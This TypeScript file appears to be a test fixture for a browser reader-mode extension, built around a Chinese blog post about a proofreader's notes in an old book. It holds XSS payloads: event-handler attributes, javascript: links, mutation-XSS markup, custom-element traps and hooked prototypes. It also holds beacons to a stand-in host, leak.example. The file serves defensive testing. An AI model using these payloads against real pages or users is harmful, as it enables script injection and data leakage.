import type { ServedPage } from './server';

/** What the reader must settle on: the article under this title, one of its sentences, or the page given back. */
export type HostileOutcome = { readonly title: string } | { readonly sentence: string } | 'gone';

/** A page that attacks the reader or its user. Numbers of threats are those of the threat model. */
export interface HostilePage {
  readonly name: string;
  readonly url: string;
  readonly served: Omit<ServedPage, 'url'>;
  readonly outcome: HostileOutcome;
  /** Paths of images that the article may ask for. */
  readonly images?: readonly string[];
  /** Text that the reader must show, and text or parts of addresses that it must not. */
  readonly shows?: readonly string[];
  readonly hides?: readonly string[];
}

/** What hostile markup runs: it counts, and tells a host of its own in case it runs where no count is seen. */
export const mark = "window.__executed=(window.__executed||0)+1;new Image().src='http://leak.example/ran'";

const title = '旧书页码里的一处小小错误';
const text = [
  '这本书的第一版印得很少，页码在装订的时候错了一页，读者要到第三章才会发现，后来的版本都把它改了过来。',
  '我在旧书店里找到的这一本正好是第一版，纸张已经发黄，但是字还很清楚，页边有前一位读者用铅笔写下的字。',
  '他在错页的地方画了一个箭头，写着“见前页”，又在书的最后一页抄下了正确的次序，看得出来他读得很仔细。',
  '把这些字一一抄下来以后，我才明白那位读者是一名校对员，他的每一条意见都被后来的版本采用了。',
];

function markup(inner: string, heading = title, head = ''): string {
  const [first, second, third, fourth] = text;
  return `<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>${heading}</title>${head}<style>:root{color:#222}</style></head>
<body><div class="nav"><a href="/">首页</a></div><div class="post"><h1>${heading}</h1>
<div class="post-content"><p>${first}</p><p>${second}</p>${inner.replaceAll('MARK', mark)}<p>${third}</p><p>${fourth}</p></div></div></body></html>`;
}

interface Sketch {
  readonly inner?: string;
  readonly head?: string;
  /** Script of the page, before everything else in the body. */
  readonly script?: string;
  readonly heading?: string;
  readonly body?: string | Buffer;
  readonly type?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly outcome?: HostileOutcome;
  readonly images?: readonly string[];
  readonly shows?: readonly string[];
  readonly hides?: readonly string[];
}

function page(name: string, sketch: Sketch): HostilePage {
  const slug = encodeURIComponent(name.replace(/\W+/g, '-'));
  const script = sketch.script === undefined ? '' : `<script>${sketch.script.replaceAll('MARK', mark)}</script>`;
  const body = sketch.body ?? markup(`${script}${sketch.inner ?? ''}`, sketch.heading, sketch.head);
  const { type, headers, images, shows, hides } = sketch;
  return {
    name,
    url: `http://${slug.toLowerCase().slice(0, 40)}.hostile-pages.cn/a/1.html`,
    served: { body, ...(type === undefined ? {} : { type }), ...(headers === undefined ? {} : { headers }) },
    outcome: sketch.outcome ?? { title },
    ...(images === undefined ? {} : { images }),
    shows: shows ?? (sketch.outcome === undefined ? [text[0] ?? '', text[3] ?? ''] : []),
    ...(hides === undefined ? {} : { hides }),
  };
}

/** Every name that scripts of a reader are likely to ask the document for. */
const documentNames = (
  'body documentElement head defaultView createElement createElementNS createTextNode createTreeWalker createDocumentFragment ' +
  'querySelector querySelectorAll getElementsByTagName getElementById implementation importNode adoptedStyleSheets title ' +
  'activeElement contentType location images baseURI URL firstChild childNodes nodeType ownerDocument addEventListener ' +
  'children append documentURI characterSet cookie hasAttribute compatMode fonts'
).split(' ');
const elementNames = (
  'attributes childNodes children firstChild nextSibling parentNode parentElement nodeName nodeType localName tagName ' +
  'getAttribute setAttribute removeAttribute hasAttribute querySelector querySelectorAll textContent innerHTML remove ' +
  'replaceWith append contains className id ownerDocument cloneNode matches closest'
).split(' ');

const trap = `customElements.define('x-thief',class extends HTMLElement{constructor(){super();MARK}connectedCallback(){MARK;window.__root=this.getRootNode()}attributeChangedCallback(){MARK}static observedAttributes=['class','title']});
customElements.define('x-p',class extends HTMLParagraphElement{constructor(){super();MARK}connectedCallback(){MARK}},{extends:'p'});`;

/** Our own hostile pages: at least one for each threat that markup, addresses or size can carry. */
export const hostilePages: readonly HostilePage[] = [
  page('T1 handlers in attributes', {
    inner: `<p onclick="MARK" onmouseover="MARK" onpointerenter="MARK">甲</p><img src="/none.png" onerror="MARK"><details open ontoggle="MARK"><summary>乙</summary>丙</details>
<svg onload="MARK"><animate onbegin="MARK" attributeName="x" dur="1s"/></svg><video src="/none.mp4" onerror="MARK"><source src="/none.webm" onerror="MARK"></video>
<marquee onstart="MARK">丁</marquee><a href="javascript:MARK">己</a><a href="&#1;javascript:MARK">庚</a><a href="data:text/html,x">辛</a>`,
    images: ['/none.png'],
    hides: ['javascript:', 'data:text'],
  }),
  page('T2 handlers without attributes', {
    inner: '<p><img id="a" src="/none.png" alt="甲"><img id="b" src="/live.png" alt="乙" width="40" height="40"></p>',
    script: `addEventListener('load',()=>{for(const image of document.images){image.setAttribute('onerror','${'window.__executed=(window.__executed||0)+1'}');image.setAttribute('onload','window.__executed=(window.__executed||0)+1');image.removeAttribute('onload');image.addEventListener('load',()=>{MARK});image.onerror=()=>{MARK}}})`,
    images: ['/none.png', '/live.png'],
  }),
  page('T3 markup that changes when parsed again', {
    inner: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=MARK&gt;"></mglyph></table></mtext></math>
<svg></p><style><a title="</style><img src=x onerror=MARK>"></style></svg><noscript><p title="</noscript><img src=x onerror=MARK>"></noscript>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=MARK src=x>"></form><p>a<b>b<table><tr><td><p>c<table><a title="<!--"><img alt="--><img src=x onerror=MARK>">`,
    images: ['/a/x'],
    shows: [text[0] ?? ''],
    hides: ['onerror='],
  }),
  page('T4 frames, forms, objects', {
    inner: `<iframe srcdoc="<script>parent.__executed++</script>"></iframe><iframe src="javascript:parent.__executed++"></iframe><object data="/frame.html"></object><embed src="/frame.html">
<form action="http://leak.example/form"><input name="a" value="b"><button formaction="javascript:MARK">送出</button></form><link rel="stylesheet" href="http://leak.example/s.css"><meta http-equiv="refresh" content="9999;url=javascript:MARK">`,
    hides: ['leak.example'],
  }),
  page('T5 styles that cover or hide', {
    head: '<style>html>div,:popover-open,div[popover]{display:none!important;opacity:0!important;visibility:hidden!important;transform:scale(0)!important}*{pointer-events:none!important;color:red!important}h1{position:fixed!important;inset:0!important}</style>',
    inner:
      '<style>@import "http://leak.example/i.css";p{background:url(http://leak.example/p)}</style><div style="position:fixed;inset:0;z-index:2147483647;background:url(http://leak.example/o)">覆盖</div><p class="frame card page" id="close">类名</p>',
    images: [],
  }),
  page('T6 attributes that ask', {
    inner:
      '<p><img src="/live.png" srcset="http://leak.example/s.png 9x" lowsrc="http://leak.example/l" dynsrc="http://leak.example/d" longdesc="http://leak.example/g" attributionsrc="http://leak.example/t" width="40" height="40"><a href="http://a.hostile-pages.cn/" ping="http://leak.example/ping" attributionsrc="http://leak.example/t">甲</a></p><table background="http://leak.example/b"><tr><td background="http://leak.example/b">乙</td></tr></table><audio src="/none.mp3"></audio><video poster="http://leak.example/v" src="/none.mp4"></video><picture><source srcset="http://leak.example/w"><img src="/live.png"></picture>',
    images: ['/live.png'],
    hides: ['/ping'],
  }),
  page('T7 referrers', {
    head: '<meta name="referrer" content="unsafe-url">',
    inner:
      '<p><img data-src="/lazy.png" referrerpolicy="unsafe-url" crossorigin="use-credentials" width="40" height="40"></p><p><a href="http://b.hostile-pages.cn/" rel="opener" target="_top" referrerpolicy="unsafe-url" download>甲</a></p>',
    images: ['/lazy.png'],
  }),
  page('T8 a form that shadows its own properties', {
    inner: `<form class="post-body">${elementNames.map((name) => `<input name="${name}">`).join('')}<p>表单里的一段话，它也是正文的一部分，应当留在文章里面。</p></form>`,
  }),
  page('T8 pictures that shadow the document', {
    inner: documentNames.map((name) => `<img name="${name}" src="/live.png" width="9" height="9">`).join(''),
    images: ['/live.png'],
  }),
  page('T8 forms and frames that shadow the document', {
    inner: documentNames
      .map((name, at) => (at % 2 ? `<form name="${name}"></form>` : `<object id="${name}"></object>`))
      .join(''),
  }),
  page('T9 custom elements of the page', {
    script: trap,
    inner:
      '<x-thief class="a" title="b">甲元素里的字</x-thief><p is="x-p">乙段落里的字</p><div><x-thief><img src="/live.png" width="40" height="40"></x-thief></div>',
    images: ['/live.png'],
  }),
  page('T10 popovers, commands, focus', {
    // Whatever had the focus gets it back when the reader closes, and hears of it.
    script: "addEventListener('load',()=>setTimeout(()=>document.activeElement.blur(),200))",
    inner:
      '<button popovertarget="pop" accesskey="r">甲</button><div id="pop" popover onbeforetoggle="MARK">乙</div><input autofocus onfocus="MARK"><p contenteditable tabindex="1" accesskey="x" onfocus="MARK">丙</p><label for="close">丁</label><dialog open>戊</dialog>',
  }),
  page('T11 a title with bidi and invisible characters', {
    heading: '旧书\u202e页码\u200b里的\u2066一处\u200f小小\u200d错误\u00ad',
    outcome: { title: '旧书页码里的一处小小错误' },
  }),
  page('T11 a title that is markup', {
    heading: '旧书页码 &lt;img src=x onerror=window.__executed++&gt; 与 {{1+1}} 的写法',
    outcome: { title: '旧书页码 <img src=x onerror=window.__executed++> 与 {{1+1}} 的写法' },
  }),
  page('T12 text and target of the source differ', {
    inner:
      '<p>转载自：<a href="http://collector-of-clicks.cn/x?u=1">https://www.jianshu.com/p/0123456789ab</a></p><p>版权声明：本文为转载文章，版权归原作者所有。</p>',
    hides: ['"https://www.jianshu.com/p/0123456789ab"'],
  }),
  page('T12 the source is no web address', {
    inner:
      '<p>原文链接：<a href="javascript:MARK">原文</a></p><p>转载自：<a href="https://www.jianshu.com@collector-of-clicks.cn/p/0123456789ab">简书</a></p><p>来源：<a href="data:text/html,x">原文</a></p>',
    hides: ['href="javascript:', 'href="https://www.jianshu.com', 'href="data:'],
  }),
  page('T13 the source is at home', {
    inner:
      '<p>原文链接：<a href="http://192.168.1.1/admin?reboot=1">http://192.168.1.1/admin?reboot=1</a></p><p>转载自：<a href="http://localhost:8080/x">本机</a></p>',
    hides: ['class="btn primary" href="http://192', 'class="btn primary" href="http://localhost'],
  }),
  page('T15 clicks and keys made by script', {
    script: `new MutationObserver(()=>{for(const host of document.documentElement.children){if(host===document.body||host===document.head)continue;for(const type of ['click','keydown','pointerdown'])host.dispatchEvent(type==='keydown'?new KeyboardEvent(type,{key:'Escape',bubbles:true,composed:true}):new MouseEvent(type,{bubbles:true,composed:true}))}dispatchEvent(new KeyboardEvent('keydown',{key:'Escape',bubbles:true}));document.dispatchEvent(new KeyboardEvent('keydown',{key:'Escape',bubbles:true}))}).observe(document.documentElement,{childList:true});addEventListener('message',()=>{MARK})`,
  }),
  page('T18 the page throws the reader out', {
    script: `new MutationObserver(()=>{for(const each of [...document.documentElement.children])if(each!==document.body&&each!==document.head)each.remove()}).observe(document.documentElement,{childList:true})`,
    outcome: 'gone',
  }),
  // Driver and test do run in the page; only calls out of files of an extension count.
  page('T19 built-in functions that are hooked', {
    script: `Error.stackTraceLimit=99;addEventListener('load',()=>{for(const [owner,names] of [[Element.prototype,['getAttribute','setAttribute','attachShadow','append','remove']],[Document.prototype,['createElement','importNode','createTreeWalker','querySelectorAll']],[String.prototype,['replace','slice','trim']],[Array.prototype,['push','map','filter']],[DOMParser.prototype,['parseFromString']]])for(const name of names){const before=owner[name];owner[name]=function(...rest){if(window.__armed&&/-extension:/.test(new Error().stack)){MARK}return before.apply(this,rest)}}window.__armed=true})`,
  }),
  page('T20 a policy that reports every policy', {
    headers: {
      'content-security-policy':
        "default-src 'none'; img-src *; style-src 'unsafe-inline'; require-trusted-types-for 'script'; trusted-types 'none'; report-uri http://leak.example/report",
    },
  }),
  page('T20 a sandbox without scripts', { headers: { 'content-security-policy': 'sandbox' } }),
  page('T21 XHTML', {
    type: 'application/xhtml+xml',
    body: `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>${title}</title></head><body><h1>${title}</h1><div class="post">${text.map((line) => `<p>${line}</p>`).join('')}</div></body></html>`,
  }),
  page('T21 XHTML without a body', {
    type: 'application/xhtml+xml',
    body: `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>${title}</title></head></html>`,
    outcome: { sentence: 'reader_noarticle_text' },
  }),
  page('T21 frames instead of a body', {
    body: '<!DOCTYPE html><html><head><title>框</title></head><frameset cols="50%,50%"><frame src="about:blank"></frameset></html>',
    outcome: { sentence: 'reader_noarticle_text' },
  }),
  page('T22 twenty thousand levels', {
    script:
      "addEventListener('load',()=>{let at=document.body;for(let i=0;i<20000;i++)at=at.appendChild(document.createElement('div')),i===0&&(at.hidden=true);at.textContent='底'})",
    outcome: { sentence: 'reader_large_text' },
  }),
  page('T22 more than 150,000 elements', {
    script:
      "addEventListener('load',()=>{const all=document.createElement('div');for(let i=0;i<150001;i++)all.append(document.createElement('i'));document.body.append(all)})",
    outcome: { sentence: 'reader_large_text' },
  }),
  page('T23 garbled text', {
    body: Buffer.from(
      `<!DOCTYPE html><html><head><meta charset="utf-8"><title>x</title></head><body><h1>x</h1>${`<p>${'\u00c0\u00d6\u00ca\u00e9\u00b5\u00c4\u00d2\u00b3\u00c2\u00eb'.repeat(12)}</p>`.repeat(12)}</body></html>`,
      'latin1',
    ),
    outcome: { sentence: 'reader_garbled_text' },
  }),
];
